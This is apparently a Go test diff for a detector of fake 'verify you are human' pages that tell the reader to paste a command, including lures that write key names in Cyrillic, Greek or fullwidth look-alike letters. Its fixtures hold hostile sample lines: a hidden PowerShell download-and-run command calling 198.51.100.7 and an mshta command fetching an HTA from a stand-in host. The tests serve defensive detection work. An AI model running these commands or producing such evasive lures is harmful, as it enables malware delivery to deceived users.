@@ -223,3 +223,79 @@ func TestPasteCommandDisguised(t *testing.T) {
 		}
 	}
 }
+
+// TestPasteCommandLookAlikeKeys: key names written with look-alike
+// letters of another alphabet or in fullwidth letters ("Ｗｉｎ＋Ｒ", "Сtrl V"
+// with a Cyrillic С, "WΙΝ R" with Greek capitals) make a text read closely
+// and read as the keys; Russian, Greek and Chinese text and a look-alike
+// how-to that has the reader type do not.
+func TestPasteCommandLookAlikeKeys(t *testing.T) {
+	const (
+		tail = " -w hidden -c \"iex(irm 198.51.100.7/v)\""
+		hta  = " https://cdn.lure.example/c.hta"
+	)
+	for _, tc := range []struct {
+		name string
+		doc  string
+		want bool
+	}{
+		{"fullwidth keys and plus", "Verify you are human: \uff37\uff49\uff4e\uff0b\uff32\uff0c\uff23\uff54\uff52\uff4c\uff0b\uff36\uff0c Enter.\npowershell" + tail, true},
+		{"a Cyrillic С in Ctrl, no '+'", "Verify you are human: press the Windows key and R, then \u0421trl and V, then Enter.\npowershell" + tail, true},
+		{"a Cyrillic і in Win and с in ctrl, no '+'", "I am not a robot: press W\u0456n R, then \u0441trl V, then Enter. mshta" + hta, true},
+		{"Greek capitals in WIN, a Cyrillic ӏ in ctrl", "Verify you are human: press W\u0399\u039d R, then ctr\u04cf V and Enter.\npowershell" + tail, true},
+		{"a Cyrillic Ѕ in Strg, German", "Ich bin kein Roboter: drücken Sie die W\u0456ndows-Taste und R, dann \u0405trg und V.\nmshta" + hta, true},
+		{"a fullwidth plus after lower-case keys", "press w\u0456n\uff0b\uff52 and paste the code: powershell" + tail, true},
+		{"fullwidth keys with ASCII '+'", "\uff37\uff49\uff4e+\uff32 then \uff43\uff54\uff52\uff4c+\uff56: powershell" + tail, true},
+
+		{"a fullwidth how-to, typed", "Press \uff37\uff49\uff4e\uff0b\uff32, type powershell and press Enter.", false},
+		{"Russian text, a paste word, no keys", "Сторона СТРОКА: нажмите кнопку и вставьте текст в окно. powershell" + tail, false},
+		{"Chinese text with fullwidth punctuation", "你好，世界！请运行（powershell）脚本，谢谢。", false},
+	} {
+		if got := pasteCommand([]byte(tc.doc)); got != tc.want {
+			t.Errorf("%s: pasteCommand(%q) = %v, want %v", tc.name, tc.doc, got, tc.want)
+		}
+	}
+}
+
+// TestCloseReadTrigger: keysNamed and plusKey, which choose the texts read
+// closely, see key names and keys after '+' written with look-alike
+// letters (Cyrillic, Greek) or in fullwidth letters, and not Russian,
+// Greek or Chinese words or fullwidth words that are no keys.
+func TestCloseReadTrigger(t *testing.T) {
+	for _, tc := range []struct {
+		doc         string
+		named, plus bool
+	}{
+		{"Press Win", true, false},
+		{"\uff37\uff49\uff4e", true, false},       // Ｗｉｎ
+		{"\uff37\uff29\uff2e", true, false},       // ＷＩＮ
+		{"\uff23\uff54\uff52\uff4c", true, false}, // Ｃｔｒｌ
+		{"\uff43\uff54\uff52\uff4c", true, false}, // ｃｔｒｌ
+		{"\uff33\uff54\uff52\uff47", true, false}, // Ｓｔｒｇ
+		{"W\u0456n", true, false},                 // Cyrillic і
+		{"W\u0399\u039d", true, false},            // Greek Ι Ν
+		{"\u0421trl", true, false},                // Cyrillic С
+		{"\u0441trl", true, false},                // Cyrillic с
+		{"\u0421TRL", true, false},                // Cyrillic С, capitals
+		{"\u0405trg", true, false},                // Cyrillic Ѕ
+		{"ctr\u04cf", true, false},                // Cyrillic ӏ
+		{"key \uff0b\uff32", true, false},         // ＋Ｒ
+		{"key \uff0b \u0425", true, false},        // ＋ and a Cyrillic Х
+		{"Win+\uff32", true, true},                // Ｒ after '+'
+		{"Ctrl + \u03bd", true, true},             // Greek ν after '+'
+		{"a + \u0425", false, true},               // Cyrillic Х after '+'
+		{"a + \u0420", false, false},              // Cyrillic Р reads p
+		{"Сторона СТРОКА, строка", false, false},  // Russian words
+		{"Πατήστε για επικόλληση", false, false},  // Greek words
+		{"你好，世界！（测试）", false, false},              // fullwidth punctuation
+		{"\uff23\uff4f\uff4d\uff50\uff41\uff4e\uff59 \uff37\uff29\uff26\uff29", false, false}, // Ｃｏｍｐａｎｙ ＷＩＦＩ
+		{"Strong petrol, electric Central", false, false},
+	} {
+		if got := keysNamed([]byte(tc.doc)); got != tc.named {
+			t.Errorf("keysNamed(%q) = %v, want %v", tc.doc, got, tc.named)
+		}
+		if got := plusKey([]byte(tc.doc)); got != tc.plus {
+			t.Errorf("plusKey(%q) = %v, want %v", tc.doc, got, tc.plus)
+		}
+	}
+}
